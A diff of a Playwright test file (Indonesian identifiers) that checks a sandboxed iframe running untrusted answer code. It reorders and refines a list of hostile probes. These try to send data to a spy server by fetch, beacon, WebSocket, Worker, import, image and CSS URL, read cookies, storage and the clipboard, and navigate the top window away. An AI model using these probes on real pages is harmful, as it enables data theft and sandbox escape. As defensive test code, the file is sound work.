@@ -61,7 +61,7 @@ async function runHostile(
 
 /** The page is as it was and answers, and neither an outside server nor the log of the network has anything from the frame. */
 async function expectUnharmed(page: Page, { url, listSent }: Awaited<ReturnType<typeof runHostile>>) {
-  expect(new URL(page.url()).pathname + new URL(page.url()).search).toBe(url)
+  await expect(page).toHaveURL(url)
   await expect(page).toHaveTitle(/Latihan menjumlah/)
   await page.getByRole('tab', { name: 'Tugas' }).click()
   await expect(page.getByText('Jumlahkan dua angka.')).toBeVisible()
@@ -86,30 +86,7 @@ test(
     <script>
     const hasil = [];
     (async () => {
-      ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
-      ${attack('fetch situs', "await fetch('/api/me')")}
-      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 'whether it was sent is seen outside'`)}
-      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
-      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
-      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
-      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${spyUrl}/peristiwa'); w.onopen = a; w.onerror = b })`)}
-      ${attack('webrtc', 'new RTCPeerConnection()')}
-      ${attack('impor', `await import('${spyUrl}/modul.js')`)}
-      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
-      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => close())"]))); w.onmessage = a; w.onerror = b; setTimeout(b, 800) })`)}
-      ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
-      ${attack('penyimpanan', 'localStorage.length')}
-      ${attack('kuki', 'document.cookie')}
-      ${attack('basis data', "await new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b })")}
-      ${attack('cache', "await caches.open('x')")}
-      ${attack('induk', 'parent.document.title')}
-      ${attack('induk penyimpanan', 'top.localStorage.length')}
-      ${attack('papan klip', 'await navigator.clipboard.readText()')}
-      ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
-      ${attack('eval', "eval('1')")}
-      ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
-      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
-      parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
+      // First: an inner frame that runs answers during what follows.
       const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${spyUrl}/dalam'); new Image().src = '${spyUrl}/dalam2'</scr" + "ipt>";
       const bingkaiJs = "javascript:parent.postMessage('jalan', '*')";
       const kutip = dalam.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
@@ -141,8 +118,30 @@ test(
         () => hasil.push('bingkai kosong ' + typeof bingkai().contentWindow.RTCPeerConnection),
         () => hasil.push('aturan ' + trustedTypes.createPolicy('lain', { createHTML: (a) => a })),
       ]) try { code() } catch {}
-      // An inner frame that runs has answered by then.
-      for (let i = 0; i < 20; i++) await new Promise((a) => setTimeout(a, 20))
+      ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
+      ${attack('fetch situs', "await fetch('/api/me')")}
+      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 'whether it was sent is seen outside'`)}
+      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
+      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
+      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
+      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${spyUrl}/peristiwa'); w.onopen = a; w.onerror = b })`)}
+      ${attack('webrtc', 'new RTCPeerConnection()')}
+      ${attack('impor', `await import('${spyUrl}/modul.js')`)}
+      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
+      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? a() : b()); w.onerror = b })`)}
+      ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
+      ${attack('penyimpanan', 'localStorage.length')}
+      ${attack('kuki', 'document.cookie')}
+      ${attack('basis data', "await new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b })")}
+      ${attack('cache', "await caches.open('x')")}
+      ${attack('induk', 'parent.document.title')}
+      ${attack('induk penyimpanan', 'top.localStorage.length')}
+      ${attack('papan klip', 'await navigator.clipboard.readText()')}
+      ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
+      ${attack('eval', "eval('1')")}
+      ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
+      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
+      parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
       const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
       console.log('HASIL ' + hasil.join(','))
     })()
@@ -150,11 +149,12 @@ test(
     const run = await runHostile(page, request, 'web', html)
     const report = page.getByText(/^HASIL /)
     await expect(report).toBeVisible()
-    const succeeded = (await report.innerText())
-      .replace('HASIL ', '')
-      .split(',')
-      .filter((name) => !name.endsWith('ditolak'))
-    expect(succeeded).toEqual([])
+    const listSucceeded = async () =>
+      (await report.innerText())
+        .replace('HASIL ', '')
+        .split(',')
+        .filter((name) => !name.endsWith('ditolak'))
+    await expect.poll(listSucceeded).toEqual([])
     await expectUnharmed(page, run)
   },
 )
@@ -164,7 +164,7 @@ test('a page that navigates itself away is closed with a sentence', thorough, as
     page,
     request,
     'web',
-    `<p>a</p><script>setTimeout(() => { location = '${spyUrl}/pergi' }, 100)</script>`,
+    `<p>a</p><script>requestAnimationFrame(() => { location = '${spyUrl}/pergi' })</script>`,
   )
   await expectUnharmed(page, run)
 })
